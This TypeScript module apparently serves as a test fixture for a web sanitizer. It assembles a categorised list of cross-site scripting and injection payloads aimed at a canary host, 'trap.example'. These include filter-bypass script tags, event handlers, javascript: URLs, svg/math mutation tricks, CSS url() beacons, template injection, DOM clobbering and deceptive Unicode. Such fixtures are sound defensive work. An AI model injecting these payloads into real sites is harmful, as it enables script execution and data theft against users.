/** The host that every payload contacts if it runs. */
export const TRAP = 'trap.example';

/** Leaves a mark in the page and contacts the trap. */
const RUN = `(window.ran=1,new Image().src='https://${TRAP}/ran')`;
const RUN_UNQUOTED = `window.ran=1`;
const CODED = [...RUN_UNQUOTED].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
const HEX = [...RUN_UNQUOTED].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');

const HANDLERS = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart'];

const ELEMENTS = [
  'img src=x',
  'details open',
  'video src=x',
  'iframe',
  'object data=x',
  'link rel=stylesheet href=x',
];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  '\u0001javascript:',
  'java\tscript:',
  'javascript&colon;',
  'javascript://ratings.example/%0a',
  'vbscript:',
  'data:text/html,<script>',
  'data:image/svg+xml,<svg onload=',
  'blob:',
  'file:///etc/passwd#',
  'moz-extension://',
  'chrome-extension://',
];

const DELIMITERS = [
  '"',
  "'",
  '`',
  '>',
  '"\'>',
  '">',
  "'>",
  '-->',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '\0">',
];

/** Texts by class, the most common attacks first. */
const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  'a script': [
    `<script>${RUN}</script>`,
    `<script src=https://${TRAP}/s.js></script>`,
    `<script type=module>import 'https://${TRAP}/m.js'</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script>/*<!--*/${RUN}//--></script>`,
    `<script>${HEX}</script>`,
    `%3Cscript%3E${encodeURIComponent(RUN)}%3C/script%3E`,
    `＜script＞${RUN}＜/script＞`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;script&#62;${CODED}&#60;/script&#62;`,
  ],
  'an event handler': HANDLERS.map(
    (handler, index) => `<${ELEMENTS[index % ELEMENTS.length]} ${handler}="${RUN}">`,
  ),
  'an element that loads': ELEMENTS.map(
    (element) =>
      `<${element.replace(/=x/, `=https://${TRAP}/x`)} onerror=${RUN_UNQUOTED} onload=${RUN_UNQUOTED}>`,
  ),
  'an address': SCHEMES.map((scheme) => `${scheme}${RUN}`),
  'an address in a link': SCHEMES.map(
    (scheme) => `<a href="${scheme}${RUN_UNQUOTED}" autofocus>read more</a>`,
  ),
  'the end of an attribute and its tag': DELIMITERS.map(
    (delimiter) => `${delimiter}<img src=x onerror=${RUN_UNQUOTED}>`,
  ),
  'the end of an attribute': DELIMITERS.slice(0, 6).map(
    (delimiter) => `x${delimiter} autofocus onfocus=${RUN_UNQUOTED} x=${delimiter}`,
  ),
  'markup that changes the page': [
    `<base href=https://${TRAP}/>`,
    `<meta http-equiv=refresh content="0;url=https://${TRAP}/refresh">`,
    `<meta http-equiv=Content-Security-Policy content="default-src *">`,
    `<link rel=preload as=script href=https://${TRAP}/p.js>`,
    `<form action=https://${TRAP}/form><button autofocus>OK</button></form>`,
    `<iframe src=https://${TRAP}/frame></iframe>`,
    `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `<object data=https://${TRAP}/o></object>`,
    `<video poster=https://${TRAP}/poster autoplay>`,
    `<img srcset="https://${TRAP}/set 1x">`,
    `<a ping=https://${TRAP}/ping href=/>`,
    `<template shadowrootmode=open><img src=https://${TRAP}/shadow></template>`,
    `<plaintext>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN_UNQUOTED}>">`,
    `<!--><img src=x onerror=${RUN_UNQUOTED}>-->`,
    `<![CDATA[<img src=x onerror=${RUN_UNQUOTED}>]]>`,
  ],
  'foreign markup': [
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN_UNQUOTED} attributeName=x dur=1s>`,
    `<svg><set attributeName=href to=javascript:${RUN_UNQUOTED}>`,
    `<svg><use href="https://${TRAP}/u.svg#x"></use></svg>`,
    `<svg><foreignObject><iframe src=https://${TRAP}/f></iframe></foreignObject></svg>`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN_UNQUOTED}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN_UNQUOTED}&gt;">`,
    `<math><annotation-xml encoding=text/html><script>${RUN}</script></annotation-xml></math>`,
  ],
  'a style': [
    `<style>@import 'https://${TRAP}/s.css';</style>`,
    `<style>*{background:url(https://${TRAP}/bg)}</style>`,
    `<p style="background:url(https://${TRAP}/p)">`,
    `<p style="position:fixed;inset:0;z-index:99999">`,
    `</style><style>body{display:none}`,
    `}body{display:none}`,
    `<style>@font-face{font-family:x;src:url(https://${TRAP}/f)}*{font-family:x}</style>`,
  ],
  'a template': [
    `{{constructor.constructor('${RUN_UNQUOTED}')()}}`,
    `\${${RUN_UNQUOTED}}`,
    `<%= ${RUN_UNQUOTED} %>`,
    `$1 $2 $NAME$ $COUNT$ $$`,
    `__MSG_extensionName__`,
    `%s %d %o %c`,
    `{0} {id} {lang}`,
  ],
  'a name with a special meaning': [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'then',
    'null',
    '0',
    '[object Object]',
    `<a id=ran><a id=ran name=x href=https://${TRAP}>`,
    `<form id=location><input name=href>`,
    `<input name=children>`,
  ],
  'letters that deceive': [
    '\u202Eexample.com/moc.elpmaxe\u202C',
    '\u2066\u202Egrade A\u2069',
    '\u200B\u200C\u200D\u2060\uFEFF',
    '\u3164\u115F\uFFA0\u2800\uFE0F',
    'a\u0300'.repeat(300),
    '\u0000\u0001\u001B[31m',
    '\uD800',
    '\uDFFF lone',
    '\uFFFE\uFFFF',
    '🏴‍☠️'.repeat(50),
    'A'.repeat(20_000),
    ' '.repeat(5_000),
    'ﷺ'.repeat(200),
    'x\n'.repeat(500),
    '<'.repeat(5_000),
    '&'.repeat(5_000),
    '<b>'.repeat(2_000),
    `${'<div>'.repeat(500)}<img src=x onerror=${RUN_UNQUOTED}>`,
  ],
};

export const TEXTS: readonly string[] = Object.values(PAYLOADS).flat();
